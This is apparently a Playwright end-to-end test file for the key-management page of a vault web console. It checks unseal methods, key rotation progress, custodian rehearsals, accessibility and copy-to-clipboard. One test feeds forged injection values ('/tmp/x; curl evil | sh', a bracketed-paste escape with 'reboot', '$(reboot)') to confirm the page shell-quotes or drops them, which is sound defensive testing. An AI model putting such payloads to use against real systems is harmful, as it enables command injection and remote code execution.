import { existsSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import type { RotationView, SealView, SharesView, VaultStatus } from '../../vault/contract.ts'
import { newId } from '../../vault/kernel/id.ts'
import { refuse } from '../../vault/kernel/outcome.ts'
import {
  accessibilityFaults,
  launchBrowser,
  layoutFaults,
  newPerson,
  type Person,
  picture,
  signIn,
  whyNoBrowser,
  windows,
} from '../support/console-browser.ts'
import { type FakeConsole, startFakeConsole } from '../support/console-fake.ts'

/** The page of the vault's keys, in the states that a real vault is in for a moment alone. */

vi.setConfig({ testTimeout: 60_000 })

const consoleDir = join(import.meta.dirname, '..', '..', 'web', 'dist')
const why =
  whyNoBrowser() ??
  (existsSync(join(consoleDir, 'index.html')) ? undefined : 'the console is not built (npm run setup)')
if (why !== undefined) console.warn(`the page of the vault's keys is not tested: ${why}`)

let browser: Browser
let edge: FakeConsole
let alice: Person

const at = '2026-11-02T07:00:00.000Z'
const seal = (more: Partial<SealView>): SealView => ({
  id: newId('wrp'),
  kind: 'passphrase',
  createdAt: at,
  followsRotation: true,
  path: null,
  outside: null,
  byItself: false,
  custodians: null,
  rehearsedAt: null,
  ...more,
})
const custodians = { set: 'K3F9-21XX', threshold: 2, names: ['anna', 'bob', 'carl'] }
const every: readonly SealView[] = [
  seal({ kind: 'custodians', custodians }),
  seal({ kind: 'key-file', path: "/media/anna's stick/seal.key", byItself: true }),
  seal({ kind: 'pkcs11', outside: 'plant (nethsm), key tagout-2026', byItself: true }),
  seal({ kind: 'plug-in', outside: 'kms', byItself: true }),
  seal({ kind: 'passphrase', followsRotation: false, rehearsedAt: at }),
  seal({ kind: 'recovery' }),
]
const rotation = (more: Partial<RotationView>): RotationView => ({
  id: newId('rot'),
  what: 'root',
  safe: null,
  version: 3,
  total: 2000,
  done: 500,
  startedBy: 'the machine administrator',
  startedAt: at,
  finishedAt: null,
  state: 'running',
  ...more,
})
const shares: SharesView = {
  set: custodians.set,
  threshold: 2,
  given: [{ index: 2, name: 'bob' }],
  missing: ['anna', 'carl'],
  until: '2026-11-24T23:30:00.000Z',
}
let seals: readonly SealView[] = every
let rotations: readonly RotationView[] = []
let rehearsal: SharesView | null = null

beforeAll(async () => {
  if (why !== undefined) return
  ;[browser, edge] = await Promise.all([launchBrowser(), startFakeConsole({ consoleDir })])
  alice = await newPerson(browser, edge.address)
  edge.answers.set('seal.list', () => seals)
  edge.answers.set('keys.status', () => ({ rootVersion: 3, rotations, rehearsal }))
  await alice.page.goto(edge.address)
  await signIn(alice.page, 'alice', 'pw', '123456')
  await alice.page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
})

afterAll(async () => {
  await browser?.close()
  await edge?.[Symbol.asyncDispose]()
})

async function open(page: Page): Promise<void> {
  await page.goto(`${edge.address}/vault-keys`)
  await page.getByRole('heading', { level: 1, name: 'Vault keys' }).waitFor()
}

async function looksRight(page: Page, name: string): Promise<void> {
  await page.waitForLoadState('networkidle')
  expect(await accessibilityFaults(page)).toEqual([])
  for (const size of windows) {
    expect([size.width, await layoutFaults(page, size)]).toEqual([size.width, []])
    await page.setViewportSize(size)
    await picture(page, `${name}-${size.width}`)
  }
  await page.setViewportSize({ width: 1280, height: 800 })
}

test.skipIf(why !== undefined)('every way to unseal is told, with the commands for it', async () => {
  const { page } = alice
  await open(page)
  const table = page.getByRole('table', { name: 'Ways to unseal' })
  await table.getByText('any 2 of anna, bob, carl').waitFor()
  const text = await table.innerText()
  for (const part of [
    'K3F9-21XX',
    'plant (nethsm), key tagout-2026',
    'opens it at a start, without a person',
    'cannot be exchanged before this way has unsealed the vault once',
    'tagout unseal --share --dry-run',
    String.raw`tagout unseal --key-file '/media/anna'\''s stick/seal.key' --dry-run`,
    `tagout unseal --token ${every[2]?.id} --dry-run`,
    'tagout unseal --ask --dry-run',
    `tagout keys remove ${every[4]?.id}`,
    'tagout keys recovery-key --recovery-out FILE',
  ])
    expect(text).toContain(part)
  // The recovery key is never taken away.
  expect(text).not.toContain(`remove ${every[5]?.id}`)
  expect(await page.getByText('Only one way opens this vault').count()).toBe(0)
  await page.getByText('no key has been exchanged').waitFor()
  await page.getByText('tagout custody change --threshold 2').waitFor()
  await looksRight(page, 'vault-keys')
})

test.skipIf(why !== undefined)('a vault that one way opens is advised a second one', async () => {
  const { page } = alice
  seals = [seal({ kind: 'key-file', path: '/media/stick/seal.key' }), seal({ kind: 'recovery' })]
  await open(page)
  await page.getByText('Only one way opens this vault').waitFor()
  await page.getByText('tagout custody init --threshold 2').waitFor()
  seals = every
})

test.skipIf(why !== undefined)('an exchange of keys is followed while it goes on', async () => {
  const { page } = alice
  const root = rotation({})
  const safe = rotation({ what: 'safe', safe: 'line-3', version: 2, total: 10, done: 10, state: 'finished' })
  rotations = [root, { ...safe, finishedAt: at }]
  await open(page)
  const meter = page.getByRole('progressbar', { name: 'Exchange of the root key' })
  await meter.waitFor()
  expect(await meter.getAttribute('aria-valuenow')).toBe('25')
  await page.getByText('500 of 2000 keys wrapped anew').waitFor()
  await page.getByRole('cell', { name: 'the key of safe line-3' }).waitFor()
  await looksRight(page, 'vault-keys-exchange')
  // Without a reload.
  rotations = [{ ...root, done: 1500 }]
  await page.getByText('1500 of 2000 keys wrapped anew').waitFor()
  rotations = [{ ...root, done: 1500, state: 'stopped' }]
  await page.getByText('The exchange of the root key has stopped').waitFor()
  rotations = [{ ...root, done: 2000, state: 'finished', finishedAt: at }]
  await meter.waitFor({ state: 'detached' })
  await page.getByRole('cell', { name: 'finished' }).waitFor()
  rotations = []
})

test.skipIf(why !== undefined)('custodians who rehearse are seen one by one', async () => {
  const { page } = alice
  await open(page)
  rehearsal = shares
  await page.getByText('Custodians are rehearsing').waitFor()
  await page.getByText('1 of 2 shares entered').waitFor()
  await page.getByText('Not yet from anna, carl').waitFor()
  rehearsal = null
  await page.getByText('Custodians are rehearsing').waitFor({ state: 'detached' })
})

test.skipIf(why !== undefined)(
  'a vault that is sealed says how it opens, and how far the custodians are',
  async () => {
    const { page } = alice
    await open(page)
    await page.getByText('any 2 of anna, bob, carl').waitFor()
    const status = (await edge.ask('status', {}, undefined)) as { readonly value: VaultStatus }
    const sealProviders = [{ kind: 'custodians' }, { kind: 'recovery' }] as const
    // As the vault tells everybody: without names.
    const told = { ...shares, given: [{ index: 2, name: '' }], missing: [] }
    await page.route('**/api/status', (route) =>
      route.fulfill({ json: { ...status.value, sealed: true, sealProviders, shares: told } }),
    )
    const refusal = () => refuse('sealed', 'the vault is sealed: nothing can be opened')
    edge.answers.set('seal.list', refusal)
    await page.getByText('The vault is sealed: its keys are nowhere in memory').waitFor()
    await page.getByText('1 of 2 shares entered').waitFor()
    await page.getByText('custodians, recovery key').waitFor()
    expect(await page.getByRole('table').count()).toBe(0)
    expect(await page.locator('main').innerText()).not.toMatch(/From|Not yet from/)
    await looksRight(page, 'vault-keys-sealed')
    await page.unroute('**/api/status')
    edge.answers.set('seal.list', () => seals)
    await page.getByText('any 2 of anna, bob, carl').waitFor()
  },
)

test.skipIf(why !== undefined)('commands are reached and copied by the keyboard', async () => {
  const { page } = alice
  await open(page)
  const table = page.getByRole('table', { name: 'Ways to unseal' })
  await table.getByText('any 2 of anna, bob, carl').waitFor()
  const filter = page.getByRole('textbox', { name: 'Filter Ways to unseal' })
  await filter.focus()
  await page.keyboard.press('Tab')
  expect(await table.evaluate((element) => element.contains(document.activeElement))).toBe(true)
  await page.keyboard.press('Enter')
  await page.keyboard.press('Shift+Tab')
  await expect
    .poll(async () => {
      await filter.fill('')
      await page.keyboard.press('Control+V')
      return await filter.inputValue()
    })
    .toBe('tagout unseal --share --dry-run')
})

test.skipIf(why !== undefined)(
  'no line of a command ends within an option, and a copy that the browser refused is told',
  async () => {
    const { page } = alice
    await open(page)
    const table = page.getByRole('table', { name: 'Ways to unseal' })
    await table.getByText('any 2 of anna, bob, carl').waitFor()
    const usual = page.viewportSize() ?? { width: 1280, height: 900 }
    for (const width of [1440, 768, 390]) {
      await page.setViewportSize({ width, height: 900 })
      const broken = await page
        .locator('.command-word')
        .evaluateAll((words) =>
          words.filter((one) => one.getClientRects().length > 1).map((one) => one.textContent),
        )
      expect(broken).toEqual([])
      expect(await page.locator('.command-word').count()).toBeGreaterThan(10)
    }
    await page.setViewportSize(usual)
    await page.evaluate(() => {
      Object.defineProperty(navigator, 'clipboard', { value: undefined, configurable: true })
    })
    await table.getByRole('button', { name: 'Copy' }).first().click()
    await page.getByText('Nothing was copied').waitFor()
  },
)

test.skipIf(why !== undefined)('a path that somebody forged is no command of theirs', async () => {
  const { page } = alice
  seals = [
    seal({ kind: 'key-file', path: '/tmp/x; curl evil | sh' }),
    seal({ kind: 'key-file', path: '/tmp/y\x1b[201~\nreboot\n' }),
    seal({ kind: 'plug-in', id: '$(reboot)', outside: 'kms' }),
  ]
  await open(page)
  const commands = page.getByRole('table', { name: 'Ways to unseal' }).locator('.command')
  await commands.first().waitFor()
  const all = (await commands.allInnerTexts()).map((text) => text.trim())
  expect(all).toContain(`tagout unseal --key-file '/tmp/x; curl evil | sh' --dry-run`)
  expect(all).toContain(`tagout keys remove '$(reboot)'`)
  expect(all.filter((text) => text.includes('/tmp/y'))).toEqual([])
  seals = every
})

test.skipIf(why !== undefined)('nothing on the page asks for a change, and nothing went wrong', () => {
  expect(alice.wrong).toEqual([])
  const verbs = new Set(edge.asked.map(({ verb }) => verb))
  for (const verb of verbs) expect(verb).not.toMatch(/^(seal\.(?!list)|custody\.|keys\.rotate)/)
})
